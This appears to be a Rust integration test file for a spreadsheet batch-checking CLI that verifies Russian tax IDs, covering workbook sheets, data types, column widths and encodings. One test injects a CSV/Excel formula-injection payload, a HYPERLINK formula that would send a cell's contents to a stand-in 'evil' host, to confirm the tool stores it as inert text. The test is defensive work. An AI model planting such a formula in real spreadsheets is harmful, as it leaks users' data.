//! `proverka batch` with workbooks as people keep them: an HR workbook with a second sheet and
//! INNs stored as numbers, a named sheet and a forced encoding, and a provider's hostile text;
//! the outputs read back with calamine and with openpyxl from Debian's python3.

use proverka_core::Provider;
use proverka_sandbox::Fault;

mod common;

use common::*;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_provider_s_hostile_text_never_becomes_a_formula() {
    let s = sandbox().await;
    s.inject(
        Provider::Court,
        Fault::ProviderError {
            code: "=HYPERLINK(\"http://evil/?\"&A2,\"Click\")".into(),
        },
        None,
    );
    let d = dir("hostile");
    let input = d.join("addresses.csv");
    std::fs::write(
        &input,
        format!("Адрес\n{}\n", proverka_court::sandbox::ADDRESS_FOUND),
    )
    .unwrap();
    for name in ["courts.csv", "courts.xlsx"] {
        let out = d.join(name);
        let mut c = ru(&s);
        batch(&mut c, &input, "court", &out);
        let (code, log) = run(c).await;
        assert_eq!(code, 1, "the row failed: {log}");
        if name.ends_with(".csv") {
            // One column in: the output takes Russian Excel's `;`.
            let rows = read_csv(&out, b';');
            let code = &column(&rows, "код ошибки")[0];
            assert!(code.starts_with("'=HYPERLINK"), "{code}");
        } else {
            let book = openpyxl(&out);
            for sheet in book.as_array().unwrap() {
                for row in sheet["rows"].as_array().unwrap() {
                    for cell in row.as_array().unwrap() {
                        assert_ne!(cell[0], "f", "a formula in {}: {cell}", sheet["name"]);
                    }
                }
            }
            let sheet = &book[0];
            assert_eq!(
                sheet_column(sheet, "код ошибки")[0],
                serde_json::json!(["s", "=HYPERLINK(\"http://evil/?\"&A2,\"Click\")"])
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_hr_workbook_keeps_its_sheets_and_types_and_gets_its_inns_back() {
    let s = sandbox().await;
    let d = dir("hr-xlsx");
    let input = d.join("hr.xlsx");
    let payer: f64 = proverka_npd::sandbox::PAYER.parse().unwrap();
    {
        let mut book = rust_xlsxwriter::Workbook::new();
        let staff = book.add_worksheet();
        staff.set_name("Сотрудники").unwrap();
        let date = rust_xlsxwriter::Format::new().set_num_format("dd.mm.yyyy");
        for (c, h) in ["№", "ФИО", "ИНН", "Дата рождения", "Оклад"]
            .iter()
            .enumerate()
        {
            staff.write_string(0, c as u16, *h).unwrap();
        }
        let rows: [(&str, f64, f64); 3] = [
            ("Петров Пётр", payer, 60084.36),
            ("Сидоров Сидор", payer, -1500.0),
            ("Козлов Кузьма", 12345.0, 1.0),
        ];
        for (r, (fio, inn, pay)) in rows.iter().enumerate() {
            let r = r as u32 + 1;
            staff.write_number(r, 0, f64::from(r)).unwrap();
            staff.write_string(r, 1, *fio).unwrap();
            staff.write_number(r, 2, *inn).unwrap();
            let born = rust_xlsxwriter::ExcelDateTime::from_ymd(1968, 7, 5).unwrap();
            staff
                .write_datetime_with_format(r, 3, &born, &date)
                .unwrap();
            staff.write_number(r, 4, *pay).unwrap();
        }
        staff.set_column_width(1, 40.0).unwrap();
        let notes = book.add_worksheet();
        notes.set_name("Справочник").unwrap();
        notes.set_column_width(0, 25.0).unwrap();
        notes.write_string(0, 0, "Отдел").unwrap();
        notes.write_string(1, 0, "Бухгалтерия").unwrap();
        notes.write_number(1, 1, 42.0).unwrap();
        book.save(&input).unwrap();
    }
    // The input is never the output.
    let mut same = ru(&s);
    batch(&mut same, &input, "npd", &input);
    let (code, log) = run(same).await;
    assert_eq!(code, 2, "{log}");
    assert!(log.contains("is the input file"), "{log}");
    assert_eq!(openpyxl(&input).as_array().unwrap().len(), 2, "untouched");

    let out = d.join("hr-checked.xlsx");
    let mut c = ru(&s);
    batch(&mut c, &input, "npd", &out);
    let (code, log) = run(c).await;
    assert_eq!(code, 0, "{log}");
    let book = openpyxl(&out);
    assert_eq!(sheet_names(&book), ["Сотрудники", "Справочник", "Итог"]);
    let staff = &book[0];
    // Numbers stay numbers, dates dates.
    assert_eq!(sheet_column(staff, "№")[0], serde_json::json!(["n", 1]));
    assert_eq!(
        sheet_column(staff, "Оклад")[..2],
        [
            serde_json::json!(["n", 60084.36]),
            serde_json::json!(["n", -1500])
        ]
    );
    assert_eq!(
        sheet_column(staff, "Дата рождения")[0],
        serde_json::json!(["d", "1968-07-05"])
    );
    assert_eq!(
        sheet_column(staff, "статус"),
        [
            serde_json::json!(["s", "готово"]),
            serde_json::json!(["s", "готово"]),
            serde_json::json!(["s", "неверная строка"])
        ]
    );
    assert_eq!(
        sheet_column(staff, "самозанятый")[0],
        serde_json::json!(["s", "да"])
    );
    assert_eq!(
        sheet_column(staff, "цена, ₽")[0],
        serde_json::json!(["n", 1.5])
    );
    // The duplicate row points at the first and cost nothing.
    assert_eq!(
        sheet_column(staff, "цена, ₽")[1],
        serde_json::json!(["n", 0])
    );
    assert_eq!(
        sheet_column(staff, "источник")[1],
        serde_json::json!(["s", "дубль строки 2"])
    );
    assert_eq!(s.calls(Provider::Npd), 1);
    // The same through calamine: sheets, types, and no formula anywhere.
    {
        use calamine::{Data, Reader};
        let mut wb: calamine::Xlsx<_> = calamine::open_workbook(&out).unwrap();
        assert_eq!(wb.sheet_names(), ["Сотрудники", "Справочник", "Итог"]);
        let range = wb.worksheet_range("Сотрудники").unwrap();
        assert_eq!(range.get((1, 4)), Some(&Data::Float(60084.36)));
        assert!(
            matches!(range.get((1, 3)), Some(Data::DateTime(_))),
            "{:?}",
            range.get((1, 3))
        );
        for name in wb.sheet_names() {
            let formulas = wb.worksheet_formula(&name).unwrap();
            assert!(
                formulas.used_cells().all(|(_, _, f)| f.is_empty()),
                "a formula in {name}"
            );
        }
    }
    // The input's column widths are kept.
    let width =
        |sheet: &serde_json::Value, column: &str| sheet["widths"][column].as_f64().unwrap_or(0.0);
    assert!(
        (width(staff, "B") - 40.0).abs() < 1.0,
        "{}",
        staff["widths"]
    );
    assert!(
        (width(&book[1], "A") - 25.0).abs() < 1.0,
        "{}",
        book[1]["widths"]
    );
    // The other sheet as it was.
    assert_eq!(
        book[1]["rows"][1],
        serde_json::json!([["s", "Бухгалтерия"], ["n", 42]])
    );
    // The summary.
    let summary = &book[2]["rows"];
    let value = |label: &str| {
        summary
            .as_array()
            .unwrap()
            .iter()
            .find(|r| r[0][1] == label)
            .map(|r| r[1].clone())
            .unwrap_or_else(|| panic!("no {label} in {summary}"))
    };
    assert_eq!(value("Строк"), serde_json::json!(["n", 3]));
    assert_eq!(
        value("Оплачено в этом запуске, ₽"),
        serde_json::json!(["n", 1.5])
    );
    assert_eq!(
        value("Сэкономлено на дублях, ₽"),
        serde_json::json!(["n", 1.5])
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_sheet_and_the_encoding_can_be_named() {
    let s = sandbox().await;
    let d = dir("sheet-encoding");
    let book_path = d.join("book.xlsx");
    {
        let mut book = rust_xlsxwriter::Workbook::new();
        let cover = book.add_worksheet();
        cover.set_name("Обложка").unwrap();
        cover.write_string(0, 0, "Список на проверку").unwrap();
        let list = book.add_worksheet();
        list.set_name("Список").unwrap();
        list.write_string(0, 0, "ИНН").unwrap();
        list.write_string(1, 0, proverka_npd::sandbox::PAYER)
            .unwrap();
        book.save(&book_path).unwrap();
    }
    let out = d.join("checked.xlsx");
    let mut c = ru(&s);
    batch(&mut c, &book_path, "npd", &out);
    c.args(["--sheet", "Список"]);
    let (code, log) = run(c).await;
    assert_eq!(code, 0, "{log}");
    let book = openpyxl(&out);
    assert_eq!(
        book[0]["name"], "Обложка",
        "the other sheet kept, in its place"
    );
    assert_eq!(book[1]["name"], "Список");
    assert_eq!(
        sheet_column(&book[1], "статус"),
        [serde_json::json!(["s", "готово"])]
    );
    // A sheet that is not there: its name and the sheets there are.
    let mut c = ru(&s);
    batch(&mut c, &book_path, "npd", &d.join("other.xlsx"));
    c.args(["--sheet", "Нет такого"]);
    let (code, log) = run(c).await;
    assert_eq!(code, 2, "{log}");
    assert!(
        log.contains("no sheet «Нет такого» (the sheets: Обложка, Список)"),
        "{log}"
    );

    // The encoding forced: a Windows-1251 file read as such.
    let csv = d.join("cp1251.csv");
    let text = format!("ИНН\n{}\n", proverka_npd::sandbox::PAYER);
    let (bytes, _, _) = encoding_rs::WINDOWS_1251.encode(&text);
    std::fs::write(&csv, &bytes).unwrap();
    let out = d.join("cp1251-out.csv");
    let mut c = ru(&s);
    batch(&mut c, &csv, "npd", &out);
    c.args(["--encoding", "windows-1251"]);
    let (code, log) = run(c).await;
    assert_eq!(code, 0, "{log}");
    assert_eq!(
        column(&read_csv(&out, b';'), "ИНН"),
        [proverka_npd::sandbox::PAYER]
    );
    // And forced wrongly: a clear error that names the way out.
    let mut c = ru(&s);
    batch(&mut c, &csv, "npd", &d.join("wrong.csv"));
    c.args(["--encoding", "utf-8"]);
    let (code, log) = run(c).await;
    assert_eq!(code, 2, "{log}");
    assert!(log.contains("--encoding windows-1251"), "{log}");
}
